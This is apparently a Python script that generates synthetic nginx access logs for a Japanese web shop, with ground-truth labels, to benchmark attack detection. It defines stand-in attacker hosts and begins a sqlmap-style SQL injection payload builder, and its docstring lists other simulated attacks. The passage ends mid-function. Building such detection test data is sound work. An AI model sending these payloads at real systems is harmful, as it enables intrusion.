#!/usr/bin/env python3
"""Varied, realistic combined-format access log of a Japanese web shop, with ground truth.

Writes nginx `combined` lines (`$remote_addr - $remote_user [$time_local] "$request" $status
$body_bytes_sent "$http_referer" "$http_user_agent"`), escaped the way nginx's default
`escape=default` does: inside the quoted fields every byte '"', '\\', < 0x20 or >= 0x7f is
written as \\xHH. Lines are in time order, time zone +0900.

What is in it (every number is an option; the summary on stderr reports what was written):
- time: --days (30) from --start, a diurnal rhythm (night low, lunch and evening peaks), a
  weekly one (weekends higher), day-to-day noise and a sale day;
- humans: --addresses (40,000) home/mobile addresses, mostly Japanese ISP prefixes, a share
  of them IPv6 (--ipv6-share), sessions drawn Zipf-like over the addresses (heavy tail); each
  address keeps its household's 1-3 browsers; sessions are human-paced page views with their
  assets (css, js, fonts, images, XHR), referers from the site itself and an entry referer
  (search engines, social, ads with gclid/yclid, newsletters with utm_*);
- shared gateways: --gateways (8) addresses (mobile-carrier CGNAT, office proxies, a campus
  NAT) that each carry many different people, so many distinct browsers, overlapping sessions;
- targets: product pages (--products ids), categories with pagination and sorting, searches
  in Japanese (percent-encoded UTF-8) and English, brands, campaigns, news, guides, cart,
  login, checkout, an API for the shop's app, hashed asset names that change with deploys,
  a few 404s (discontinued products, missing icons);
- user agents: --uas (1,000) distinct browser and app UAs built from OS/browser/version/device
  templates, plus crawlers and monitors (Googlebot, bingbot, Applebot, ...) from their ranges;
- attacks, --attack-share (0.04) of the lines, from --attack-sources (300) addresses, mostly
  overseas hosting: sqlmap runs (boolean/error/time/union/stacked payloads in query values,
  with --level 3 in User-Agent/Referer too, tamper scripts), wfuzz-like fuzzing with XSS,
  command injection, LFI/traversal (encoded, double-encoded, backslashes), RFI and CRLF
  payloads (some sent raw, so they carry \\x22 / \\x5C escapes), general vulnerability scanners
  (nuclei/nikto/wapiti-like), directory enumeration bursts (dirb/gobuster/ffuf, mostly 404),
  admin and WordPress brute force, web-shell hunting, Log4Shell `${jndi:...}` sprays,
  Shellshock, known-CVE exploit paths, sensitive-file probes and non-HTTP junk (TLS hello,
  RDP cookie) from mass-scanning botnets; some with scanner UAs, others browser-looking.

Ground truth (--truth FILE): one character per log line, each on its own line, line N of the
truth file describing line N of the log. Upper case = attack traffic:
  .  human               ,  human behind a shared gateway      b  crawler / monitor (benign bot)
  Q  SQL injection       X  XSS                                 C  command injection, Shellshock
  J  Log4Shell (JNDI)    R  remote file inclusion               L  LFI / path traversal
  N  CRLF injection      F  sensitive-file probe                A  admin / login probing
  W  web shell           D  directory enumeration               V  known-CVE exploit path
  P  non-HTTP junk       K  attack-tool request without a payload (e.g. sqlmap's baseline)
--truth-format jsonl writes {"n": line number, "attack": bool, "class": char, "name": class name}
objects instead.

Python 3 stdlib only; the same options and --seed give the same bytes.

  bench/make_varied_log.py -n 1000000 -o varied.log --truth varied.truth --seed 1
"""

import argparse
import bisect
import datetime as dt
import itertools
import json
import math
import random
import re
import sys
import time
from urllib.parse import quote, quote_plus

HOST = "shop.example.jp"
ORIGIN = "https://" + HOST
TZ = dt.timezone(dt.timedelta(hours=9))
MONTHS = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"]

# --------------------------------------------------------------------------------------------
# nginx escaping
# --------------------------------------------------------------------------------------------
_NEEDS_ESC = re.compile(r'["\\\x00-\x1f\x7f-\U0010ffff]')


def esc(s):
    """nginx escape=default of a str (UTF-8) or bytes value."""
    if isinstance(s, str):
        if not _NEEDS_ESC.search(s):
            return s
        s = s.encode("utf-8", "surrogateescape")
    out = []
    for c in s:
        if c == 0x22 or c == 0x5C or c < 0x20 or c >= 0x7F:
            out.append("\\x%02X" % c)
        else:
            out.append(chr(c))
    return "".join(out)


def q(s, safe=""):
    """Percent-encode the way tools and browsers do (UTF-8, space as %20)."""
    return quote(s, safe=safe)


# --------------------------------------------------------------------------------------------
# addresses
# --------------------------------------------------------------------------------------------
# (prefix, prefix length, weight): Japanese consumer ISPs and mobile carriers (checked against
# Debian's tor-geoipdb: all JP).
JP_V4 = [("126.0.0.0", 8, 14), ("49.96.0.0", 12, 10), ("106.128.0.0", 12, 9), ("1.72.0.0", 13, 5),
         ("1.66.0.0", 15, 3), ("153.128.0.0", 9, 10), ("180.0.0.0", 10, 6), ("60.32.0.0", 12, 5),
         ("219.96.0.0", 12, 4), ("114.160.0.0", 12, 6), ("118.0.0.0", 12, 4), ("220.100.0.0", 16, 2),
         ("133.0.0.0", 8, 2)]
JP_V6 = [("2400:4050::", 32, 4), ("2001:240::", 32, 2), ("240b:10::", 32, 5), ("2409:10::", 32, 3),
         ("2400:2410::", 32, 2), ("2001:268::", 32, 2), ("2404:7a80::", 32, 2)]
ABROAD_V4 = [("34.80.0.0", 15, 1), ("1.160.0.0", 12, 1), ("211.36.0.0", 14, 1), ("73.0.0.0", 8, 1),
             ("86.0.0.0", 10, 1)]
# Attack sources: hosting / cloud / bullet-proof ranges, botnet-heavy residential ranges, a few
# Japanese VPS ranges.
ATTACK_V4 = [("218.92.0.0", 16, 3), ("61.177.172.0", 24, 2), ("183.136.225.0", 24, 1), ("36.110.0.0", 16, 1),
             ("167.99.0.0", 16, 3), ("64.227.0.0", 16, 2), ("159.65.0.0", 16, 2), ("134.209.0.0", 16, 2),
             ("143.198.0.0", 16, 2), ("104.248.0.0", 16, 1), ("157.245.0.0", 16, 1), ("206.189.0.0", 16, 1),
             ("3.80.0.0", 12, 2), ("18.200.0.0", 13, 1), ("20.100.0.0", 14, 1), ("34.80.0.0", 15, 1),
             ("51.68.0.0", 16, 2), ("5.196.0.0", 16, 1), ("65.108.0.0", 16, 2), ("95.216.0.0", 16, 1),
             ("78.46.0.0", 15, 2), ("116.202.0.0", 16, 1), ("185.220.101.0", 24, 2), ("45.148.10.0", 24, 2),
             ("80.66.76.0", 24, 1), ("193.32.162.0", 24, 1), ("194.26.29.0", 24, 1), ("89.248.165.0", 24, 2),
             ("212.70.149.0", 24, 1), ("141.98.11.0", 24, 1), ("43.130.0.0", 16, 2), ("43.153.0.0", 16, 2),
             ("124.156.0.0", 16, 1), ("47.74.0.0", 15, 1), ("177.10.0.0", 16, 1), ("187.45.0.0", 16, 1),
             ("103.145.0.0", 16, 1), ("117.200.0.0", 13, 1), ("160.16.0.0", 16, 1), ("133.130.0.0", 16, 1),
             ("85.209.11.0", 24, 1)]
ATTACK_V6 = [("2a01:4f8::", 32, 2), ("2604:a880::", 32, 2), ("2001:41d0::", 32, 1), ("2400:6180::", 32, 1),
             ("2a03:b0c0::", 32, 1), ("2a06:4880::", 32, 1)]


def _v4(rng, prefix, plen):
    base = int.from_bytes(bytes(int(x) for x in prefix.split(".")), "big")
    host = rng.getrandbits(32 - plen) if plen < 32 else 0
    a = base | host
    if a & 0xFF in (0, 255):
        a = (a & ~0xFF) | rng.randint(1, 254)
    return "%d.%d.%d.%d" % (a >> 24, (a >> 16) & 255, (a >> 8) & 255, a & 255)


def _v6(rng, prefix, plen):
    head = prefix.rstrip(":").split(":")
    groups = [int(h, 16) for h in head] + [0] * (8 - len(head))
    groups[2] = rng.getrandbits(16)
    groups[3] = rng.getrandbits(16)
    if rng.random() < 0.7:  # privacy address
        groups[4:8] = [rng.getrandbits(16) for _ in range(4)]
    else:  # ::1-style or EUI-64-ish
        groups[4:8] = [0, 0, 0, rng.randint(1, 255)]
    s = ":".join("%x" % g for g in groups)
    return re.sub(r"(^|:)0(:0)+(:|$)", "::", s, count=1)


def pick_prefix(rng, table):
    return rng.choices(table, weights=[t[2] for t in table])[0]


def make_addresses(rng, n, v6_share, table4, table6, abroad=None, abroad_share=0.0, taken=None):
    out, seen = [], taken if taken is not None else set()
    while len(out) < n:
        r = rng.random()
        if r < v6_share:
            p = pick_prefix(rng, table6)
            a = _v6(rng, p[0], p[1])
        elif abroad and r < v6_share + abroad_share:
            p = pick_prefix(rng, abroad)
            a = _v4(rng, p[0], p[1])
        else:
            p = pick_prefix(rng, table4)
            a = _v4(rng, p[0], p[1])
        if a not in seen:
            seen.add(a)
            out.append(a)
    return out


# --------------------------------------------------------------------------------------------
# user agents
# --------------------------------------------------------------------------------------------
CHROME_FULL = {100: "4896.127", 101: "4951.67", 102: "5005.115", 103: "5060.134", 104: "5112.102",
               105: "5195.127", 106: "5249.119", 107: "5304.107", 108: "5359.125", 109: "5414.120",
               110: "5481.178", 111: "5563.147", 112: "5615.138", 113: "5672.127", 114: "5735.199",
               115: "5790.171", 116: "5845.188", 117: "5938.150", 118: "5993.118", 119: "6045.200",
               120: "6099.217", 121: "6167.185", 122: "6261.129", 123: "6312.122", 124: "6367.207",
               125: "6422.142", 126: "6478.127"}
IOS_VERSIONS = ["15_0", "15_1", "15_2", "15_3_1", "15_4_1", "15_5", "15_6", "15_6_1", "15_7", "15_7_9",
                "15_8", "16_0", "16_1", "16_1_2", "16_2", "16_3", "16_3_1", "16_4", "16_4_1", "16_5",
                "16_5_1", "16_6", "16_6_1", "16_7", "16_7_2", "16_7_8", "17_0", "17_0_3", "17_1",
                "17_1_1", "17_1_2", "17_2", "17_2_1", "17_3", "17_3_1", "17_4", "17_4_1", "17_5",
                "17_5_1"]
ANDROID_MODELS = ["SO-51B", "SO-52C", "SO-53C", "SO-41B", "SOG05", "SOG07", "XQ-BT44", "XQ-DQ44",
                  "A201SO", "A202SO", "SH-51C", "SH-53C", "SH-41A", "SH-M24", "SHG07", "SHG10",
                  "A205SH", "SC-51C", "SC-52C", "SC-53D", "SCG13", "SCG19", "SM-S911C", "SM-A546E",
                  "Pixel 6a", "Pixel 7", "Pixel 7a", "Pixel 8", "Pixel 8 Pro", "Pixel 8a",
                  "F-51B", "F-52B", "FCG01", "KYG01", "KC-S304", "A101FC", "A302ZT", "OPG04",
                  "CPH2413", "A201OP", "XIG03", "Redmi Note 11", "Redmi Note 13 Pro 5G", "M2101K6R",
                  "SO-54C", "SH-54D", "SO-51E", "A301SO", "moto g53j 5G", "ZS676KS"]
ANDROID_VERSIONS = ["10", "11", "12", "13", "14"]
FIREFOX_VERSIONS = list(range(110, 128)) + [115]
EDGE_BUILDS = {109: "1518.78", 114: "1823.82", 116: "1938.81", 118: "2088.76", 119: "2151.97",
               120: "2210.144", 121: "2277.128", 122: "2365.92", 123: "2420.97", 124: "2478.80",
               125: "2535.85", 126: "2592.68"}
MAC_OS = ["10_15_7", "10_15_6", "10_14_6", "13_6_6", "14_4_1"]
SAFARI_MAC = ["15.6.1", "16.1", "16.3", "16.5", "16.6", "17.0", "17.1", "17.2.1", "17.3.1", "17.4", "17.4.1", "17.5"]
WIN_NT = ["10.0", "10.0", "10.0", "6.1", "6.3"]


def _ios_safari_ver(iv):
    p = iv.split("_")
    return ".".join(p[:3] if len(p) == 3 and p[2] != "0" else p[:2])


def ua_templates(rng):
    """One random UA: (category, ua, mobile)."""
    cat = rng.choices(
        ["ios_safari", "android_chrome", "win_chrome", "win_edge", "mac_safari", "mac_chrome",
         "ios_inapp", "android_inapp", "firefox", "ipad", "samsung", "ios_crios", "shop_app"],
        weights=[30, 20, 14, 6, 4, 4, 6, 3, 2, 3, 1.5, 2, 1.5])[0]
    if cat == "ios_safari":
        iv = rng.choice(IOS_VERSIONS)
        return cat, ("Mozilla/5.0 (iPhone; CPU iPhone OS %s like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                     "Version/%s Mobile/15E148 Safari/604.1" % (iv, _ios_safari_ver(iv))), True
    if cat == "ipad":
        iv = rng.choice(IOS_VERSIONS)
        if rng.random() < 0.6:  # iPadOS desktop mode
            return cat, ("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                         "Version/%s Safari/605.1.15" % _ios_safari_ver(iv)), True
        return cat, ("Mozilla/5.0 (iPad; CPU OS %s like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                     "Version/%s Mobile/15E148 Safari/604.1" % (iv, _ios_safari_ver(iv))), True
    if cat == "ios_crios":
        iv, cv = rng.choice(IOS_VERSIONS), rng.randint(112, 126)
        return cat, ("Mozilla/5.0 (iPhone; CPU iPhone OS %s like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                     "CriOS/%d.0.%s Mobile/15E148 Safari/604.1" % (iv, cv, CHROME_FULL[cv])), True
    if cat == "ios_inapp":
        iv = rng.choice(IOS_VERSIONS)
        app = rng.choice(["line", "line", "instagram", "twitter", "fb", "yahoo"])
        base = "Mozilla/5.0 (iPhone; CPU iPhone OS %s like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148" % iv
        if app == "line":
            return cat, base + " Safari Line/%d.%d.%d" % (rng.randint(13, 14), rng.randint(0, 21), rng.randint(0, 2)), True
        if app == "instagram":
            dev = rng.choice(["iPhone14,5", "iPhone14,7", "iPhone15,2", "iPhone15,4", "iPhone16,1", "iPhone13,2", "iPhone12,1"])
            return cat, base + " Instagram %d.0.0.%d.%d (%s; iOS %s; ja_JP; ja; scale=3.00; 1170x2532; %d)" % (
                rng.randint(300, 335), rng.randint(10, 40), rng.randint(60, 120), dev, iv, rng.randint(500000000, 600000000)), True
        if app == "twitter":
            return cat, base + " Twitter for iPhone/%d.%d" % (rng.randint(9, 10), rng.randint(0, 50)), True
        if app == "fb":
            return cat, base + " [FBAN/FBIOS;FBAV/%d.0.0.%d.%d;FBBV/%d;FBDV/iPhone14,5;FBMD/iPhone;FBSN/iOS;FBSV/%s;FBSS/3;FBCR/;FBID/phone;FBLC/ja_JP;FBOP/80]" % (
                rng.randint(440, 470), rng.randint(10, 60), rng.randint(100, 120), rng.randint(500000000, 600000000), iv.replace("_", ".")), True
        return cat, base + " YJApp-IOS jp.co.yahoo.ipn.appli/4.%d.%d" % (rng.randint(40, 60), rng.randint(0, 3)), True
    if cat == "android_chrome":
        cv = rng.randint(108, 126)
        if cv >= 110 and rng.random() < 0.6:  # reduced UA
            return cat, ("Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/%d.0.0.0 "
                         "Mobile Safari/537.36" % cv), True
        return cat, ("Mozilla/5.0 (Linux; Android %s; %s) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/%d.0.%s "
                     "Mobile Safari/537.36" % (rng.choice(ANDROID_VERSIONS), rng.choice(ANDROID_MODELS), cv, CHROME_FULL[cv])), True
    if cat == "android_inapp":
        av, m, cv = rng.choice(ANDROID_VERSIONS), rng.choice(ANDROID_MODELS), rng.randint(112, 126)
        base = ("Mozilla/5.0 (Linux; Android %s; %s Build/%s; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 "
                "Chrome/%d.0.%s Mobile Safari/537.36" % (av, m, rng.choice(["TP1A.220624.014", "UP1A.231005.007", "SKQ1.211006.001", "AP1A.240505.005"]), cv, CHROME_FULL[cv]))
        app = rng.choice(["line", "instagram", "yahoo"])
        if app == "line":
            return cat, base + " Line/%d.%d.%d/IAB" % (rng.randint(13, 14), rng.randint(0, 21), rng.randint(0, 2)), True
        if app == "instagram":
            return cat, base + " Instagram %d.0.0.%d.%d Android (%s/%s; 420dpi; 1080x2340; %s; ja_JP; %d)" % (
                rng.randint(300, 335), rng.randint(10, 40), rng.randint(60, 120), 29 + int(av) - 10, av, m, rng.randint(500000000, 600000000)), True
        return cat, base + " YJApp-ANDROID jp.co.yahoo.android.yjtop/3.%d.%d" % (rng.randint(140, 170), rng.randint(0, 3)), True
    if cat == "samsung":
        sv, cv = rng.choice(["21.0", "22.0", "23.0", "24.0", "25.0"]), rng.randint(110, 121)
        return cat, ("Mozilla/5.0 (Linux; Android %s; SAMSUNG %s) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/%s "
                     "Chrome/%d.0.0.0 Mobile Safari/537.36" % (rng.choice(ANDROID_VERSIONS), rng.choice(["SC-51C", "SC-52C", "SCG13", "SM-S911C", "SM-A546E"]), sv, cv)), True
    if cat == "win_chrome":
        cv = rng.randint(104, 126)
        ver = "%d.0.0.0" % cv if cv >= 110 and rng.random() < 0.7 else "%d.0.%s" % (cv, CHROME_FULL[cv])
        nt = rng.choice(WIN_NT)
        arch = "Win64; x64" if nt != "6.1" or rng.random() < 0.5 else "WOW64"
        return cat, ("Mozilla/5.0 (Windows NT %s; %s) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/%s Safari/537.36" % (nt, arch, ver)), False
    if cat == "win_edge":
        ev = rng.choice(list(EDGE_BUILDS))
        return cat, ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/%d.0.0.0 "
                     "Safari/537.36 Edg/%d.0.%s" % (ev, ev, EDGE_BUILDS[ev])), False
    if cat == "mac_safari":
        return cat, ("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/%s "
                     "Safari/605.1.15" % rng.choice(SAFARI_MAC)), False
    if cat == "mac_chrome":
        cv = rng.randint(108, 126)
        ver = "%d.0.0.0" % cv if cv >= 110 and rng.random() < 0.7 else "%d.0.%s" % (cv, CHROME_FULL[cv])
        return cat, ("Mozilla/5.0 (Macintosh; Intel Mac OS X %s) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/%s "
                     "Safari/537.36" % (rng.choice(MAC_OS), ver)), False
    if cat == "firefox":
        fv = rng.choice(FIREFOX_VERSIONS)
        plat = rng.choice(["Windows NT 10.0; Win64; x64", "Macintosh; Intel Mac OS X 10.15", "X11; Linux x86_64",
                           "X11; Ubuntu; Linux x86_64", "Windows NT 6.1; Win64; x64"])
        return cat, "Mozilla/5.0 (%s; rv:%d.0) Gecko/20100101 Firefox/%d.0" % (plat, fv, fv), False
    # the shop's own app
    if rng.random() < 0.55:
        iv = rng.choice(IOS_VERSIONS[18:])
        return cat, "ExampleShop/%d.%d.%d (iPhone; iOS %s; Scale/3.00)" % (
            rng.randint(4, 5), rng.randint(0, 9), rng.randint(0, 3), iv.replace("_", ".")), True
    return cat, "ExampleShop/%d.%d.%d (Android %s; %s) okhttp/4.%d.0" % (
        rng.randint(4, 5), rng.randint(0, 9), rng.randint(0, 3), rng.choice(ANDROID_VERSIONS), rng.choice(ANDROID_MODELS), rng.randint(9, 12)), True


class UAPool:
    def __init__(self, rng, n):
        seen, items = set(), []
        tries = 0
        while len(items) < n and tries < n * 200:
            tries += 1
            cat, ua, mob = ua_templates(rng)
            if ua not in seen:
                seen.add(ua)
                items.append((cat, ua, mob))
        self.items = items
        # Popularity: heavy-tailed within the pool (current versions are the common ones).
        w = [1.0 / (i + 3) ** 0.9 for i in range(len(items))]
        self.cum = list(itertools.accumulate(w))
        self.mobile = [i for i, it in enumerate(items) if it[2] and it[0] != "shop_app"]
        self.desktop = [i for i, it in enumerate(items) if not it[2]]
        self.cum_mobile = list(itertools.accumulate(w[i] for i in self.mobile))
        self.cum_desktop = list(itertools.accumulate(w[i] for i in self.desktop))

    def pick(self, rng, kind=None):
        if kind == "mobile":
            i = self.mobile[bisect.bisect(self.cum_mobile, rng.random() * self.cum_mobile[-1])]
        elif kind == "desktop":
            i = self.desktop[bisect.bisect(self.cum_desktop, rng.random() * self.cum_desktop[-1])]
        else:
            i = bisect.bisect(self.cum, rng.random() * self.cum[-1])
        return self.items[min(i, len(self.items) - 1)]


CRAWLERS = [  # (name, weight, ua, prefixes, fetches assets/images)
    ("googlebot-smartphone", 30, "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{chrome}.0.{build} Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", ["66.249.64.0/20", "66.249.79.0/24"]),
    ("googlebot", 8, "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", ["66.249.64.0/20", "66.249.79.0/24"]),
    ("googlebot-image", 4, "Googlebot-Image/1.0", ["66.249.64.0/20"]),
    ("bingbot", 16, "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)", ["157.55.39.0/24", "207.46.13.0/24", "40.77.167.0/24", "52.167.144.0/24"]),
    ("applebot", 5, "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/13.1.1 Safari/605.1.15 (Applebot/0.1; +http://www.apple.com/go/applebot)", ["17.241.75.0/24", "17.246.15.0/24"]),
    ("yandex", 3, "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)", ["5.255.231.0/24", "213.180.203.0/24"]),
    ("ahrefs", 8, "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)", ["54.36.148.0/24", "54.36.149.0/24"]),
    ("semrush", 6, "Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)", ["185.191.171.0/24"]),
    ("gptbot", 3, "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)", ["20.171.207.0/24"]),
    ("duckduckbot", 1, "DuckDuckBot/1.1; (+http://duckduckgo.com/duckduckbot.html)", ["20.191.45.0/24"]),
    ("facebook", 3, "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)", ["69.171.249.0/24", "173.252.107.0/24"]),
    ("twitterbot", 2, "Twitterbot/1.0", ["199.16.157.0/24"]),
    ("line", 2, "facebookexternalhit/1.1;line-poker/1.0", ["147.92.150.0/24"]),
    ("slack", 1, "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)", ["54.209.0.0/16"]),
    ("uptimerobot", 6, "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)", ["216.144.248.16/28", "69.162.124.224/28"]),
]

# --------------------------------------------------------------------------------------------
# the site
# --------------------------------------------------------------------------------------------
CATEGORIES = ["mens", "womens", "kids", "shoes", "bags", "accessories", "outdoor", "kitchen", "interior",
              "beauty", "stationery", "food", "sweets", "gift", "sale", "new-arrivals", "ranking",
              "mens/shoes", "mens/jackets", "mens/shirts", "mens/pants", "womens/dresses", "womens/tops",
              "womens/skirts", "womens/shoes", "kids/baby", "kids/toys", "bags/tote", "bags/backpack",
              "bags/wallet", "accessories/watches", "accessories/hats", "accessories/umbrella",
              "outdoor/camp", "outdoor/rainwear", "kitchen/tableware", "kitchen/cookware",
              "interior/lighting", "interior/storage", "beauty/skincare", "beauty/bath", "food/tea",
              "food/coffee", "food/seasoning", "sweets/japanese", "gift/mothers-day", "gift/fathers-day",
              "gift/wedding", "gift/ochugen", "gift/oseibo"]
BRANDS = ["kurashiki", "tokyo-design", "hokkaido-farm", "kyoto-crafts", "nagano-wool", "imabari-towel",
          "arita-porcelain", "minami", "sakura-works", "kaze", "yamato", "tsubame-sanjo", "hasami", "ume",
          "matsu", "sora", "niko", "hana", "mori", "umi"]
JP_TERMS = ["スニーカー", "財布", "傘", "折りたたみ傘", "母の日 ギフト", "父の日", "ワンピース", "ワンピース 夏",
            "トートバッグ", "リュック", "腕時計", "帽子", "タオル", "今治タオル", "マグカップ", "有田焼",
            "お茶", "緑茶", "コーヒー豆", "ドリップコーヒー", "和菓子", "羊羹", "お中元", "お歳暮", "内祝い",
            "結婚祝い", "出産祝い", "ベビー服", "おもちゃ", "キャンプ", "レインコート", "長靴", "エプロン",
            "包丁", "フライパン", "ランプ", "収納", "化粧水", "入浴剤", "ボールペン", "手帳", "ノート",
            "セール", "送料無料", "ランキング", "新作", "限定", "名入れ", "ギフトセット", "バッグ 黒",
            "靴 レディース", "靴　メンズ", "ジャケット", "シャツ 白", "パンツ", "スカート", "マフラー",
            "手袋", "ハンカチ", "扇子", "浴衣", "甚平", "お箸", "湯呑み", "急須"]
EN_TERMS = ["sneakers", "wallet", "umbrella", "tote bag", "backpack", "watch", "towel", "mug", "green tea",
            "coffee", "gift set", "sale", "jacket", "white shirt", "leather", "kids", "camping", "rain boots",
            "apron", "knife", "lamp", "notebook", "pen", "matcha", "yukata", "chopsticks"]
GUIDES = ["/guide/", "/guide/shipping", "/guide/payment", "/guide/returns", "/guide/size", "/guide/gift-wrapping",
          "/faq", "/company", "/contact", "/privacy", "/terms", "/law", "/sitemap", "/news/", "/stores/"]
CAMPAIGNS = ["summer-sale", "winter-sale", "mothers-day", "fathers-day", "new-life", "golden-week", "black-friday",
             "point-10x", "free-shipping", "outlet", "anniversary", "ochugen", "oseibo", "halloween", "christmas"]
UTM = [("newsletter", "email"), ("line", "social"), ("instagram", "social"), ("x", "social"),
       ("google", "cpc"), ("yahoo", "cpc"), ("affiliate", "affiliate"), ("smartnews", "display")]
ENTRY_REFERERS = [("https://www.google.com/", 26), ("https://www.google.co.jp/", 10), ("https://search.yahoo.co.jp/", 9),
                  ("https://www.bing.com/", 2), ("https://t.co/", 3), ("https://www.instagram.com/", 3),
                  ("https://l.instagram.com/", 1), ("https://m.facebook.com/", 1), ("https://line.me/", 2),
                  ("https://www.smartnews.com/", 1), ("https://news.yahoo.co.jp/", 1), ("https://b.hatena.ne.jp/", 1),
                  ("-", 30)]


class Site:
    def __init__(self, rng, products, days):
        self.n_products = products
        self.first_pid = 100000
        pw = [1.0 / (i + 10) ** 1.05 for i in range(products)]
        self.pid_cum = list(itertools.accumulate(pw))
        # discontinued ids answer 404
        self.gone = set(rng.sample(range(products), max(1, products // 200)))
        # hashed asset names change with each weekly deploy
        self.deploys = [{n: "%08x" % rng.getrandbits(32) for n in ("app.css", "vendor.css", "app.js", "vendor.js",
                                                                    "chunk-product.js", "chunk-search.js", "chunk-cart.js")}
                        for _ in range(days // 7 + 2)]
        self.news = ["/news/%s.html" % (dt.date(2023, 1, 1) + dt.timedelta(days=rng.randint(0, 600))).strftime("%Y%m%d")
                     for _ in range(120)]
        self.cat_w = list(itertools.accumulate(1.0 / (i + 2) ** 0.8 for i in range(len(CATEGORIES))))

    def pid(self, rng):
        i = bisect.bisect(self.pid_cum, rng.random() * self.pid_cum[-1])
        return min(i, self.n_products - 1)

    def product_path(self, rng, i):
        p = "/products/%d" % (self.first_pid + i)
        r = rng.random()
        if r < 0.12:
            p += "?color=%s" % rng.choice(["black", "white", "navy", "beige", "red", "green", "gray", "brown"])
        elif r < 0.18:
            p += "?size=%s" % rng.choice(["S", "M", "L", "XL", "22.5", "23.0", "24.5", "26.0", "27.5"])
        elif r < 0.24:
            p += "?ref=rec"
        elif r < 0.27:
            p += "/reviews?page=%d" % rng.randint(1, 6)
        return p

    def category_path(self, rng):
        c = CATEGORIES[bisect.bisect(self.cat_w, rng.random() * self.cat_w[-1])]
        p = "/category/%s/" % c
        r = rng.random()
        if r < 0.25:
            p += "?page=%d" % rng.randint(2, 30)
        elif r < 0.37:
            p += "?sort=%s" % rng.choice(["price_asc", "price_desc", "new", "popular", "review"])
            if rng.random() < 0.5:
                p += "&page=%d" % rng.randint(2, 15)
        elif r < 0.42:
            p += "?price_min=%d&price_max=%d" % (rng.choice([0, 1000, 3000, 5000]), rng.choice([3000, 5000, 10000, 30000]))
        return p

    def search_path(self, rng):
        if rng.random() < 0.75:
            t = rng.choice(JP_TERMS)
        else:
            t = rng.choice(EN_TERMS)
        p = "/search?q=" + quote_plus(t)
        r = rng.random()
        if r < 0.2:
            p += "&page=%d" % rng.randint(2, 12)
        elif r < 0.3:
            p += "&sort=%s" % rng.choice(["price_asc", "new", "popular"])
        elif r < 0.36:
            p += "&category=%s" % quote(rng.choice(CATEGORIES), safe="")
        return p

    def assets(self, ts_day):
        return self.deploys[min(int(ts_day) // 7, len(self.deploys) - 1)]


def utm_params(rng):
    s, m = rng.choice(UTM)
    return "utm_source=%s&utm_medium=%s&utm_campaign=%s" % (
        s, m, rng.choice(["2024spring", "2024summer", "mail_%02d%02d" % (rng.randint(1, 12), rng.randint(1, 28)),
                          "sale", "weekly", "retarget", "brand_kw", "coupon"]))


def click_id(rng):
    k = rng.choice(["gclid", "gclid", "yclid", "fbclid"])
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789_-"
    if k == "yclid":
        return "yclid=YSS.%d.%s" % (rng.randint(1000000000, 1099999999), "".join(rng.choice(alphabet) for _ in range(22)))
    return "%s=%s" % (k, "".join(rng.choice(alphabet) for _ in range(rng.randint(40, 90))))


# --------------------------------------------------------------------------------------------
# attack payloads (modelled on sqlmap, wfuzz/wapiti word lists, nuclei templates, botnets)
# --------------------------------------------------------------------------------------------
EVIL = ["198.51.100.23", "203.0.113.77", "evil.example.com", "attacker.example.net", "192.0.2.150"]
OAST = ["oast.example.com", "interact.example.net", "dnslog.example.org"]


def _r4(rng):
    return rng.randint(1000, 9999)


def _rs(rng, n=4):
    return "".join(rng.choice("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ") for _ in range(n))


def _hexs(rng, n=3):
    return "0x" + "".join("%02x" % rng.choice(b"qvjkxzpb") for _ in range(n))


def sqlmap_payload(rng, technique):
    a, b = _r4(rng), _r4(rng)
    pre = rng.choice(["", "", "'", "\"", ")", "')", "\")", "))", "'))", "%'"])
    quote_ch = "'" if "'" in pre else ("\"" if "\"" in pre else "")
    close = ""
    if pre:
        opens = pre.count(")")
        if quote_ch:
            tok = _rs(rng)
            close = " AND %s%s%s%s=%s%s" % ("(" * opens, quote_ch, tok, quote_ch, quote_ch, tok)
        else:
            close = " AND %s%d=%d" % ("(" * opens, b, b)
    else:
        close = rng.choice(["", "-- %s" % _rs(rng), "#", "-- -"])
    if technique == "boolean":
        core = rng.choice(["AND %d=%d" % (a, a), "AND %d=%d" % (a, b), "OR %d=%d" % (a, a),
